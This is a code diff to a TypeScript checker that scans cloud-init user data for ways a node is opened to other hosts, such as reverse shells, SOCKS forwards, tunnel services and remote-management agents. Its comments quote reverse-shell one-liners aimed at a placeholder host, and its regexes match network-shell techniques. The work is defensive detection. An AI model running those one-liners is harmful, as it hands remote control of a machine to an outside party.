@@ -2377,13 +2377,45 @@ function gostListeners(args: readonly string[]): Listener[] {
  * reaches as the node's SSH identity: the node itself (its instance metadata) when it is localhost.
  */
 function sshListeners(args: readonly string[]): Listener[] {
-    const { options, setting, gateway } = sshCommand(args);
-    return [...optionValues(options, "-D"), ...setting("DynamicForward")].map(forward => {
-        const m = /^(?:\[([^\]]*)\]|(.*?))[:/](\d+)$/.exec(forward);
-        const address = m ? (m[1] ?? m[2]) : gateway ? "*" : "localhost";
-        return { server: `ssh -D ${forward}`, binds: [address === "" ? "*" : address], serves: { proxy: true } };
-    });
+    const { options, operands, setting, gateway } = sshCommand(args);
+    const destination = sshDestination(operands);
+    return [
+        ...[...optionValues(options, "-D"), ...setting("DynamicForward")].map(forward => {
+            const m = /^(?:\[([^\]]*)\]|(.*?))[:/](\d+)$/.exec(forward);
+            const address = m ? (m[1] ?? m[2]) : gateway ? "*" : "localhost";
+            return {
+                server: `ssh -D ${forward}`,
+                binds: [address === "" ? "*" : address],
+                serves: { proxy: true as const },
+            };
+        }),
+        // ssh(1) -R "[bind_address:]port": "if no explicit destination was specified, ssh will act as a SOCKS 4/5 proxy
+        // and forward connections to the destinations requested by the remote SOCKS client": a SOCKS proxy on the
+        // destination (another host's) reaching whatever the node reaches, its loopback and instance metadata.
+        ...[...optionValues(options, "-R"), ...setting("RemoteForward")]
+            .filter(spec => reverseSocks(spec))
+            .map(spec => ({
+                server: `ssh -R ${spec}, a SOCKS proxy on ${destination} reaching the node's network`,
+                binds: [loopbackOnly([destination]) ? destination : `${destination} (another host)`],
+                serves: { proxy: true as const },
+            })),
+    ];
 }
+
+/** An ssh -R (RemoteForward) specification naming only `[bind_address:]port`: a reverse dynamic (SOCKS) forward. */
+const reverseSocks = (spec: string) => /^(?:(?:\[[^\]]*\]|[^:\s]*):)?\d+$/.test(spec.trim());
+/** ssh's destination host (`[user@]host`, `ssh://[user@]host[:port]`). */
+const sshDestination = (operands: readonly string[]) =>
+    (operands[0] ?? "")
+        .replace(/^ssh:\/\//, "")
+        .replace(/^.*@/, "")
+        .replace(/:\d+$/, "");
+
+/**
+ * Dropbear's dbclient as ssh (dbclient(1): -L and -R "[listenaddress:]listenport:host:port" as ssh's, -g, -N, -f, -T,
+ * -p, -l, -i, -J, -o, -b, -B alike), less its -K keepalive, which takes a value ssh's -K does not.
+ */
+const dropbearSshArgs = (args: readonly string[]) => args.filter((w, i) => !/^-K/.test(w) && args[i - 1] !== "-K");
 
 /**
  * ssh's command line (ssh(1) SYNOPSIS: the options taking a value, read after the destination too; `-o Key=Value`
@@ -5790,6 +5822,36 @@ function jolokiaAgentListeners(
         },
     ];
 }
+/**
+ * Shell In A Box (shellinaboxd(1): "a webserver that listens on the specified port", -p/--port "default 4200", on
+ * every address unless --localhost-only; "If no particular service was requested, the server launches /bin/login";
+ * -s/--service `URL:LOGIN`, `URL:SSH[:host]`, or `URL:USER:GROUP:CWD:CMD`, which runs CMD as USER without a login):
+ * each service's command served in a browser terminal, as ttyd's.
+ */
+function shellinaboxdListeners(args: readonly string[]): Listener[] {
+    const { options } = getopt(args, "cfgpsu", [
+        ...["cert", "cert-fd", "css", "static-file", "group", "port", "service", "user", "user-css", "pidfile"],
+        "linkify",
+    ]);
+    const binds = options.some(([k]) => k === "--localhost-only") ? ["127.0.0.1"] : [];
+    const port = optionValues(options, "-p", "--port").at(-1) ?? "4200";
+    const services = optionValues(options, "-s", "--service");
+    return (services.length > 0 ? services : ["/:LOGIN"]).map(service => {
+        const [, kind = "", ...rest] = service.split(":");
+        const command =
+            kind === "LOGIN"
+                ? "/bin/login"
+                : kind === "SSH"
+                  ? `ssh ${rest[0] ?? "localhost"}`
+                  : rest.slice(3).join(":");
+        return {
+            server: `shellinaboxd -s ${service}`,
+            binds,
+            port,
+            serves: { shell: command === "" ? "/bin/sh" : command },
+        };
+    });
+}
 
 /**
  * Servers a root command starts, by program name (busybox: only as its applet), each read into its listeners.
@@ -5819,6 +5881,7 @@ const SERVERS: {
     { names: /^(in\.)?telnetd$/, read: (args, _, name) => telnetdListeners(name, args) },
     { names: /^ttyd$/, read: ttydListeners },
     { names: /^gotty$/, read: gottyListeners },
+    { names: /^shellinaboxd$/, read: shellinaboxdListeners },
     { names: /^python[0-9.]*$/, read: pythonModuleListeners },
     { names: /^proxy$/, read: proxyPyListeners },
     { names: /^caddy$/, read: caddyListeners },
@@ -5835,6 +5898,7 @@ const SERVERS: {
     { names: /^(pen|balance)$/, read: (args, _, name) => (name === "pen" ? penListeners(args) : []) },
     { names: /^ssh$/, read: sshListeners },
     { names: /^autossh$/, read: args => sshListeners(autosshSshArgs(args)) },
+    { names: /^dbclient$/, read: args => sshListeners(dropbearSshArgs(args)) },
     { names: /^(tcpsvd|udpsvd|tcpserver)$/, read: superServerListeners },
     { names: /^x?inetd$/, read: superServerConfigListeners },
     { names: /^websocketd$/, read: websocketdListeners },
@@ -7749,7 +7813,15 @@ const SHELL_IN_CODE =
  * (SHELL_IN_CODE) in the same code, the connection is the shell's (a reverse or bind shell: Python docs, os.dup2 and
  * pty.spawn; perlfunc exec; Ruby Kernel#exec/spawn; PHP proc_open; Node.js child_process.spawn).
  */
-const SOCKET_SHELL_CODE: { names: RegExp; code: RegExp; socket: RegExp }[] = [
+const SOCKET_SHELL_CODE: {
+    names: RegExp;
+    code: RegExp;
+    socket: RegExp;
+    /** Its operands are program text too (awk's program is its first operand unless -f names a file). */
+    operands?: true;
+    /** How its code runs a command besides SHELL_IN_CODE's. */
+    shell?: RegExp;
+}[] = [
     {
         names: /^python[0-9.]*$/,
         code: /^-c$/,
@@ -7768,6 +7840,16 @@ const SOCKET_SHELL_CODE: { names: RegExp; code: RegExp; socket: RegExp }[] = [
         socket: /['"](node:)?net['"]|\bnet\.(connect|createConnection|Socket|createServer)\b|\bDeno\.(connect|listen)\b|\bBun\.(connect|listen)\b/,
     },
     { names: /^lua[0-9.]*$/, code: /^-e$/, socket: /\bsocket\b/ },
+    // GNU awk manual, "TCP/IP Networking" (`/inet/tcp/lport/rhost/rport` special files, read and written with the `|&`
+    // coprocess operator) and "Two-Way Communications with Another Process" (`command |& getline` runs the command
+    // through the shell, as `command | getline` and system() do). awk is gawk on Amazon Linux.
+    {
+        names: /^g?awk$/,
+        code: /^(-e|--source)$/,
+        operands: true,
+        socket: /\/inet[46]?\/(tcp|udp)\//,
+        shell: /\|&|\|\s*getline\b|\bsystem\s*\(/,
+    },
 ];
 
 /**
@@ -7813,7 +7895,12 @@ function shellsHandedOut(
     const interpreter = SOCKET_SHELL_CODE.find(t => t.names.test(name));
     if (interpreter) {
         const python = /^python/.test(name) ? pythonEntry(args, cwd ?? "/", fileText, view) : undefined;
-        const inline = args.flatMap((w, i) => (interpreter.code.test(args[i - 1] ?? "") ? [w] : []));
+        const programFile = args.some(w => /^(-f|--file)(=|$)/.test(w));
+        const inline = args.flatMap((w, i) =>
+            interpreter.code.test(args[i - 1] ?? "") || (interpreter.operands && !programFile && !w.startsWith("-"))
+                ? [w]
+                : [],
+        );
         const script = args.find((w, i) => !w.startsWith("-") && !interpreter.code.test(args[i - 1] ?? ""));
         const scriptText =
             inline.length === 0 && script !== undefined && !/^python/.test(name)
@@ -7824,7 +7911,14 @@ function shellsHandedOut(
             ...(/^python/.test(name) ? [] : inline),
             ...(scriptText === undefined ? [] : [scriptText]),
         ];
-        if (texts.some(t => typeof t === "string" && interpreter.socket.test(t) && SHELL_IN_CODE.test(t)))
+        if (
+            texts.some(
+                t =>
+                    typeof t === "string" &&
+                    interpreter.socket.test(t) &&
+                    (SHELL_IN_CODE.test(t) || interpreter.shell?.test(t)),
+            )
+        )
             out.push(
                 `${line}: code that connects or accepts a socket and runs a shell, a pty or a subprocess (a reverse shell to the host it names, or a bind shell for whoever connects)`,
             );
@@ -8746,10 +8840,24 @@ const TUNNEL_SERVICES: { names: RegExp; commands?: RegExp; far: string; off?: Re
         far: "Tailscale Funnel's public URL or the tailnet",
         off: /^(off|reset|status|--help|-h)$/,
     },
+    // LocalXpose docs: `loclx tunnel http --to 127.0.0.1:8000` gives a public https://*.loclx.io URL.
+    { names: /^loclx$/, commands: /^tunnel$/, far: "a LocalXpose public URL (loclx.io)" },
+    // beyondcode/expose docs: `expose share http://localhost:8000 --subdomain=...` publishes the site on the Expose
+    // server's public URL.
+    { names: /^expose$/, commands: /^share(-cwd)?$/, far: "an Expose server's public URL" },
+    // Microsoft Learn, "Dev tunnels CLI command reference": `devtunnel host -p 8000 [--allow-anonymous]` makes the port
+    // reachable at the tunnel's URL (without -p, the ports the tunnel was created with: unread).
+    { names: /^devtunnel$/, commands: /^host$/, far: "a Microsoft dev tunnel's URL (devtunnels.ms)" },
 ];
+/**
+ * A subcommand or flag saying a program the pack does not read hands something out through a tunnel service (`X
+ * tunnel http --to ...`, `X share URL`, `X host -p PORT`, `--public`): with an end on this instance it names, read as a
+ * TUNNEL_SERVICES one (round 60: the list of tunnel services does not end either).
+ */
+const TUNNEL_WORDS = /^(tunnel|share|expose|host|publish|--share|--expose|--public|--tunnel)$/;
 /** Programs commandForwarders and dialledOutForwarders read themselves (their relays are theirs, not unreadRelays'). */
 const READ_RELAYS =
-    /^(socat|ssh|autossh|gost|caddy|systemd-socket-proxyd|3proxy|ip6?tables(-legacy|-nft)?|nft|firewall-(offline-)?cmd|envoy|pen|balance|ncat|nc|netcat|chisel|cloudflared|ngrok|bore|frpc)$/;
+    /^(socat|ssh|autossh|dbclient|gost|caddy|systemd-socket-proxyd|3proxy|ip6?tables(-legacy|-nft)?|nft|firewall-(offline-)?cmd|envoy|pen|balance|ncat|nc|netcat|chisel|cloudflared|ngrok|bore|frpc)$/;
 /** An end on this instance a word names: a loopback host with a port (`tcp:127.0.0.1:8000`, `ws://localhost:80/`), a socket. */
 function namedLocalEnd(word: string): LoopbackEnd | undefined {
     const w = word.replace(/^--?[\w.-]+=/, "").replace(/^["']|["']$/g, "");
@@ -8788,8 +8896,11 @@ function namedOtherHost(word: string): string | undefined {
  * of the relays read above (READ_RELAYS), no server the pack reads (SERVERS) and no known client (KNOWN_CLIENTS,
  * NOT_UNREAD_SERVERS), whose words or the configuration files it is handed that user data wrote (readConfig; a
  * TOML/YAML/INI file's values: rathole's client.toml `remote_addr`/`local_addr`) name both an end on this instance
- * (namedLocalEnd, or a `--port`/`--local-port` value) and another host (namedOtherHost) or is a public tunnel service
- * (TUNNEL_SERVICES: its bare port operands too, none read any end): it relays the one to the other, as ssh -R does.
+ * (namedLocalEnd, a forward's `[scheme://][bind:]port:host:hostport` (forwardSpecEnd), or a `--port`/`--ports`/
+ * `--local-port` value, of the `--upstream` host when one is given apart) and another host (namedOtherHost) or is a
+ * public tunnel service (TUNNEL_SERVICES: its bare port operands too, none read any end; or, round 60, a program whose
+ * subcommand or flags say it tunnels, TUNNEL_WORDS, once it names an end, `-p` too): it relays the one to the other, as
+ * ssh -R does.
  */
 function unreadRelays(
     name: string,
@@ -8806,6 +8917,11 @@ function unreadRelays(
     );
     if (tunnel?.off && args.some(w => tunnel.off!.test(w))) return undefined;
     if (!tunnel && SERVERS.some(s => s.names.test(name) && !s.partial)) return undefined;
+    // A program whose subcommand or flags say it tunnels (TUNNEL_WORDS), read as a tunnel service once it names an end.
+    const tunnelish =
+        tunnel !== undefined ||
+        TUNNEL_WORDS.test(args.find(w => !w.startsWith("-")) ?? "") ||
+        args.some(w => TUNNEL_WORDS.test(w.replace(/=.*$/, "")) && w.startsWith("--"));
     const words = [...clientWords(name, args)];
     const texts = words
         .filter(w => w.startsWith("/"))
@@ -8813,18 +8929,36 @@ function unreadRelays(
         .filter((t): t is string => typeof t === "string");
     const configWords = texts.flatMap(t => t.split(/[\s"'=,]+/).filter(w => w !== "" && !/^[#;]/.test(w)));
     const all = [...words, ...configWords];
+    // An upstream host given apart from its ports (inlets docs: `inlets-pro tcp client --url wss://... --upstream
+    // 127.0.0.1 --ports 8000`, the server's public ports relayed to the upstream's): the ports are that host's.
+    const upstream = words.flatMap((w, i) => {
+        const option = /^--?(upstream|local[-_]?host|target[-_]?host|to[-_]?host)(?:=(.*))?$/i.exec(w);
+        const value = option ? (option[2] ?? words[i + 1]) : undefined;
+        return value !== undefined && !/:\d+/.test(value) ? [value] : [];
+    });
+    const portHost = upstream.find(h => !loopbackOnly([h])) ?? "127.0.0.1";
     const ends: LoopbackEnd[] = [
         ...all.flatMap(w => namedLocalEnd(w) ?? []),
+        // A forward's `[scheme://][bind:]port:host:hostport` (wstunnel README, "wstunnel client -R
+        // tcp://[::]:8080:localhost:8000 wss://server": the server listens, the client dials localhost:8000; chisel's
+        // R:), but for a local forward (-L: the far side dials it).
+        ...words.flatMap((w, i) =>
+            /^(-L|--local(-to-remote)?)$/.test(words[i - 1] ?? "") ? [] : (forwardSpecEnd(w) ?? []),
+        ),
         ...words.flatMap((w, i) => {
-            const option = /^(--?(?:local[-_]?)?port)(?:=(\d+))?$/i.exec(w);
-            const value = option ? (option[2] ?? words[i + 1]) : undefined;
-            return value !== undefined && /^\d+$/.test(value) ? [{ port: Number(value) }] : [];
+            const option = /^(--?(?:local[-_]?)?ports?|-p)(?:=([\d,]+))?$/i.exec(w);
+            if (!option || (option[1] === "-p" && !tunnelish)) return [];
+            const value = option[2] ?? words[i + 1] ?? "";
+            return /^\d+(,\d+)*$/.test(value) ? value.split(",").flatMap(p => relayEnd(portHost, p) ?? []) : [];
         }),
         ...(tunnel
             ? words.flatMap((w, i) => (/^\d+$/.test(w) && !/^-/.test(words[i - 1] ?? "") ? [{ port: Number(w) }] : []))
             : []),
     ];
-    const far = tunnel?.far ?? all.map(w => namedOtherHost(w)).find(h => h !== undefined);
+    const far =
+        tunnel?.far ??
+        all.map(w => namedOtherHost(w)).find(h => h !== undefined) ??
+        (tunnelish && ends.length > 0 ? `${name}'s tunnel service` : undefined);
     if (far === undefined) return undefined;
     if (ends.length === 0 && !tunnel) return undefined;
     return (ends.length > 0 ? ends : [{}]).map(to => ({
@@ -8832,6 +8966,19 @@ function unreadRelays(
         listens: tunnel ? [`${far} (another host)`] : dialledOut(far),
         to,
     }));
+}
+
+/** The end on this instance of a forward specification `[scheme://][bind:]port:host:hostport` (ssh -R's form). */
+function forwardSpecEnd(word: string): LoopbackEnd | undefined {
+    const spec = word
+        .replace(/^--?[\w.-]+=/, "")
+        .replace(/^["']|["']$/g, "")
+        .replace(/^[a-z][\w+.-]*:\/\//i, "")
+        .replace(/^R:/, "");
+    const parts = spec.match(/\[[^\]]*\]|[^:]+/g) ?? [];
+    if (parts.length < 3 || !/^\d+$/.test(parts.at(-1)!) || !/^\d+$/.test(parts.at(-3)!) || /^\d+$/.test(parts.at(-2)!))
+        return undefined;
+    return relayEnd(parts.at(-2)!.replace(/^\[|\]$/g, ""), parts.at(-1));
 }
 
 /**
@@ -8883,10 +9030,7 @@ function commandForwarders(
     }
     if (name === "ssh") {
         const { options, operands, setting, gateway } = sshCommand(args);
-        const destination = (operands[0] ?? "")
-            .replace(/^ssh:\/\//, "")
-            .replace(/^.*@/, "")
-            .replace(/:\d+$/, "");
+        const destination = sshDestination(operands);
         const self = loopbackOnly([destination]);
         const forwards = (flag: string, key: string) => [
             ...optionValues(options, flag),
@@ -8908,12 +9052,15 @@ function commandForwarders(
                     ? forwarder([`${bind === "" ? "*" : bind}:${listen.at(-1) ?? ""}`], loopbackEnd(target))
                     : [];
             }),
-            ...forwards("-R", "RemoteForward").flatMap(spec => {
-                const { listen, target } = split(spec);
-                const bind = listen.length > 1 ? listen[0] : "localhost";
-                const listens = self ? [`${bind}:${listen.at(-1) ?? ""}`] : [`${destination} (another host)`];
-                return forwarder(listens, loopbackEnd(target));
-            }),
+            // A reverse dynamic forward (`-R [bind:]port`) is a SOCKS proxy (sshListeners).
+            ...forwards("-R", "RemoteForward")
+                .filter(spec => !reverseSocks(spec))
+                .flatMap(spec => {
+                    const { listen, target } = split(spec);
+                    const bind = listen.length > 1 ? listen[0] : "localhost";
+                    const listens = self ? [`${bind}:${listen.at(-1) ?? ""}`] : [`${destination} (another host)`];
+                    return forwarder(listens, loopbackEnd(target));
+                }),
         ];
     }
     if (name === "gost") {
@@ -8960,6 +9107,8 @@ function commandForwarders(
     if (name === "nft") return nftForwarders(args.join(" "));
     if (name === "autossh")
         return commandForwarders(["ssh", ...autosshSshArgs(args)]).map(f => ({ ...f, forwarder: line }));
+    if (name === "dbclient")
+        return commandForwarders(["ssh", ...dropbearSshArgs(args)]).map(f => ({ ...f, forwarder: line }));
     if (/^firewall-(offline-)?cmd$/.test(name)) {
         // --direct rules are iptables' own (firewall-cmd(1) "Direct Options": `--add-rule { ipv4 | ipv6 | eb } table
         // chain priority args`, `--add-passthrough { ipv4 | ipv6 | eb } args`).
@@ -9319,8 +9468,26 @@ function lineRelays(line: string, how: string): NodeOpening[] {
     });
     commands.forEach((c, i) => {
         const devFar = [...c.writes, ...c.reads].filter(p => /^\/dev\/(tcp|udp)\//.test(p));
-        if (ends[i].far.length > 0 && devFar.length > 0 && runsClientCommands(c.words.join(" ")))
+        if (!runsClientCommands(c.words.join(" "))) return;
+        if (ends[i].far.length > 0 && devFar.length > 0)
             out.push(shellHandedOut(how, `${c.words.join(" ")} connected to ${ends[i].far.join(", ")} (another host)`));
+        // A shell whose input comes through the pipeline or a file (a FIFO) from commands joined with a client of
+        // another host (`bash -i < /tmp/s | openssl s_client -connect HOST:PORT > /tmp/s`, `cat /tmp/f | bash -i |
+        // nc HOST PORT > /tmp/f`) runs what that host sends: a reverse shell, whatever the client program.
+        else {
+            const members = commands.map((_, j) => j).filter(j => j !== i && find(j) === find(i));
+            const far = members.flatMap(j => ends[j].far);
+            const fed =
+                (i > 0 && commands[i - 1].pipesOut && members.includes(i - 1)) ||
+                members.some(j => commands[j].writes.some(w => !w.startsWith("/dev/") && c.reads.includes(w)));
+            if (far.length > 0 && fed)
+                out.push(
+                    shellHandedOut(
+                        how,
+                        `${c.words.join(" ")} reads what ${far.join(", ")} (another host) sends, through ${members.map(j => commands[j].words.join(" ")).join(" | ")}`,
+                    ),
+                );
+        }
     });
     return [...out, ...forwarderMarks(forwarders, how)];
 }
@@ -9652,11 +9819,8 @@ const nodeJudge = {
             (name === "tc" && words.includes("pedit") && /\bmunge\s+(ip\s+ttl|ip6\s+hoplimit)\b/.test(words.join(" ")))
         )
             out.push(hopLimitUndone(how));
-        // Remote management in any form: cloud-config's modules are refused (REMOTE_MANAGEMENT), and so are the same
-        // agents run as commands (ansible-pull(1) "pulls playbooks from a VCS repo and executes them"; a Puppet, Chef
-        // or Salt agent talking to its server; chef-client -z and salt-call --local and puppet apply read local
-        // content), an SSM hybrid activation (another account's Run Command and Session Manager as root: SSM user
-        // guide, "Install SSM Agent on hybrid Linux nodes"), and Tailscale SSH (tailnet policy decides who logs in).
+        // Remote management in any form: cloud-config's modules are refused (REMOTE_MANAGEMENT), and so are the agents
+        // run as commands or units (REMOTE_AGENTS).
         const unit =
             name === "systemctl" &&
             /^(enable|start|restart|reenable)$/.test(operands.find(w => !w.startsWith("-")) ?? "")
@@ -9666,20 +9830,8 @@ const nodeJudge = {
                       .map(u => u.replace(/\.service$/, ""))
                 : [];
         const remote =
-            name === "ansible-pull"
-                ? "ansible-pull's repository"
-                : name === "puppet" &&
-                    (operands[0] === "agent" || (operands[0] === "config" && operands.includes("server")))
-                  ? "the Puppet server"
-                  : name === "chef-client" && !operands.some(w => /^(-z|--local-mode)$/.test(w))
-                    ? "the Chef server"
-                    : (name === "salt-call" && !operands.includes("--local")) || name === "salt-minion"
-                      ? "the Salt master"
-                      : name === "amazon-ssm-agent" && operands.some(w => /^-?-register$/.test(w))
-                        ? "the account of the SSM hybrid activation"
-                        : name === "tailscale" && operands.some(w => /^--ssh(=true)?$/.test(w))
-                          ? "the tailnet's SSH policy (Tailscale SSH)"
-                          : unit.find(u => /^(puppet|chef-client|salt-minion|mcollective)$/.test(u));
+            REMOTE_AGENTS.find(a => a.names.test(name) && a.hands(operands))?.who ??
+            unit.find(u => REMOTE_AGENT_UNITS.test(u));
         if (remote)
             out.push({
                 who: remote,
@@ -9927,6 +10079,75 @@ function registryHostsOpenings(path: string, content: string): NodeOpening[] {
         return [unreadable(`user data's ${path}`, (e as Error).message)];
     }
 }
+
+/**
+ * Agents that hand the node to another party who then runs commands on it as root (round 60: the class of a
+ * remote-access or configuration-management agent, whatever its name), by program and the operands that start one;
+ * `who` the party. The cloud-config modules of the same agents are REMOTE_MANAGEMENT.
+ */
+const REMOTE_AGENTS: { names: RegExp; hands: (operands: readonly string[]) => boolean; who: string }[] = [
+    // ansible-pull(1): "pulls playbooks from a VCS repo and executes them for the local host".
+    { names: /^ansible-pull$/, hands: () => true, who: "ansible-pull's repository" },
+    // A Puppet, Chef or Salt agent talking to its server; `puppet apply`, chef-client -z and salt-call --local read
+    // local content.
+    {
+        names: /^puppet$/,
+        hands: o => o[0] === "agent" || (o[0] === "config" && o.includes("server")),
+        who: "the Puppet server",
+    },
+    { names: /^chef-client$/, hands: o => !o.some(w => /^(-z|--local-mode)$/.test(w)), who: "the Chef server" },
+    { names: /^salt-call$/, hands: o => !o.includes("--local"), who: "the Salt master" },
+    { names: /^salt-minion$/, hands: () => true, who: "the Salt master" },
+    // CFEngine docs, "cf-agent": "-B, --bootstrap: Bootstrap CFEngine to the given policy server IP, hostname or :avahi":
+    // the host then pulls the hub's policy and runs its promises as root on every run.
+    { names: /^cf-agent$/, hands: o => o.some(w => /^(-B|--bootstrap)(=|$)/.test(w)), who: "the CFEngine policy hub" },
+    // An SSM hybrid activation: another account's Run Command and Session Manager as root (SSM user guide, "Install SSM
+    // Agent on hybrid Linux nodes"); the agent registered with the node's own role is the account's own access.
+    {
+        names: /^amazon-ssm-agent$/,
+        hands: o => o.some(w => /^-?-register$/.test(w)),
+        who: "the account of the SSM hybrid activation",
+    },
+    // Tailscale SSH (Tailscale docs, "Tailscale SSH": `tailscale up --ssh`; the tailnet policy file decides who logs
+    // in as which user, root included).
+    {
+        names: /^tailscale$/,
+        hands: o => o.some(w => /^--ssh(=true)?$/.test(w)),
+        who: "the tailnet's SSH policy (Tailscale SSH)",
+    },
+    // NetBird CLI docs, `netbird up`: "--allow-server-ssh  Allow SSH server on peer"; the management server's access
+    // policies decide which peers log in.
+    {
+        names: /^netbird$/,
+        hands: o => o.some(w => /^--allow-server-ssh(=true)?$/.test(w)),
+        who: "the NetBird management server's access policy (NetBird SSH)",
+    },
+    // Teleport docs, "teleport start": "--roles Comma-separated list of roles to start with [proxy,node,auth]"; the node
+    // role runs the SSH Service, whose logins (root included) the cluster's roles grant; without --roles its
+    // configuration decides (ssh_service is enabled by default), unread.
+    {
+        names: /^teleport$/,
+        hands: o =>
+            o[0] === "start" &&
+            !o.some((w, i) => {
+                const roles = /^--roles=(.*)$/.exec(w)?.[1] ?? (o[i - 1] === "--roles" ? w : undefined);
+                return roles !== undefined && !roles.split(",").includes("node");
+            }) &&
+            !o.some(w => /^(-h|--help)$/.test(w)),
+        who: "the Teleport cluster's roles (its SSH Service)",
+    },
+    // VS Code docs, "Developing with Remote Tunnels": `code tunnel` (and `code tunnel service install`) connects the
+    // machine to the dev tunnels relay, and the signed-in GitHub or Microsoft account opens terminals and edits files
+    // there from vscode.dev; `prune|kill|status|rename|unregister|user` manage or sign out only.
+    {
+        names: /^code(-insiders)?$/,
+        hands: o =>
+            o[0] === "tunnel" && !/^(prune|kill|status|rename|unregister|user|help|-h|--help)$/.test(o[1] ?? ""),
+        who: "the account signed in to VS Code Remote Tunnels",
+    },
+];
+/** The packaged units of REMOTE_AGENTS (a Teleport unit runs `teleport start` on its configuration, unread). */
+const REMOTE_AGENT_UNITS = /^(puppet|chef-client|salt-minion|mcollective|teleport)$/;
 
 /** cloud-init modules that hand the node to a remote configuration server (cloud-init module reference). */
 const REMOTE_MANAGEMENT = ["ansible", "puppet", "chef", "salt_minion", "landscape", "mcollective"];
